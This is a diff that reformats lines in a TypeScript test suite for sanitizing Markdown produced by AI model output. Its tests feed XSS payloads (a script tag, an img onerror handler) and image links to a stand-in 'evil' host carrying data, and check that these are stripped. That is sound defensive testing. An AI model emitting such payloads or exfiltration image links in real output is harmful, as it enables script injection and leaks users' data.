@@ -51,7 +51,9 @@ describe('Markdown from model output', () => {
       ),
     );
     expect(container.querySelectorAll('script, iframe, [style], [class], [onerror], [href], [srcset]')).toHaveLength(0);
-    expect(Array.from(container.querySelectorAll('img')).map((image) => image.getAttribute('src'))).toEqual(['data:image/png;base64,iVBORw0KGgo=']);
+    expect(Array.from(container.querySelectorAll('img')).map((image) => image.getAttribute('src'))).toEqual([
+      'data:image/png;base64,iVBORw0KGgo=',
+    ]);
     expect(container.textContent).toContain('ok');
     expect(container.textContent).toContain('styled');
     expect((window as { pwned?: boolean }).pwned).toBeUndefined();
@@ -63,7 +65,9 @@ describe('Markdown from model output', () => {
   });
 
   it('turns allowed links into buttons for the host, and other links into text', () => {
-    const html = render('See [the docs](https://example.com/docs), <https://example.com/auto>, [mail](mailto:a@example.com) and [local](./file.ts).');
+    const html = render(
+      'See [the docs](https://example.com/docs), <https://example.com/auto>, [mail](mailto:a@example.com) and [local](./file.ts).',
+    );
     const links = Array.from(html.querySelectorAll('a'));
     expect(links.map((link) => link.getAttribute('data-href'))).toEqual(['https://example.com/docs', 'https://example.com/auto']);
     expect(links.every((link) => !link.hasAttribute('href') && link.getAttribute('role') === 'link')).toBe(true);
@@ -85,8 +89,18 @@ describe('Markdown from model output', () => {
     harness.send(snapshotMessage([makeTask({ id: 't1', status: 'completed' })]));
     click(harness.row('t1'));
     harness.scheduler.runFrame();
-    harness.send({ type: 'task-detail', taskId: 't1', prompt: 'p', output: '<img src="https://evil/x?data" onerror="alert(1)"> [docs](https://example.com)' });
-    harness.send({ type: 'transcript', taskId: 't1', index: 0, entries: [{ type: 'text', text: '<script>alert(1)</script>![x](https://evil/x?data)' }] });
+    harness.send({
+      type: 'task-detail',
+      taskId: 't1',
+      prompt: 'p',
+      output: '<img src="https://evil/x?data" onerror="alert(1)"> [docs](https://example.com)',
+    });
+    harness.send({
+      type: 'transcript',
+      taskId: 't1',
+      index: 0,
+      entries: [{ type: 'text', text: '<script>alert(1)</script>![x](https://evil/x?data)' }],
+    });
     expect(document.querySelectorAll('script')).toHaveLength(0);
     expect(Array.from(document.querySelectorAll('img')).filter((image) => !image.src.startsWith('data:'))).toHaveLength(0);
     expect(document.querySelectorAll('[onerror]')).toHaveLength(0);
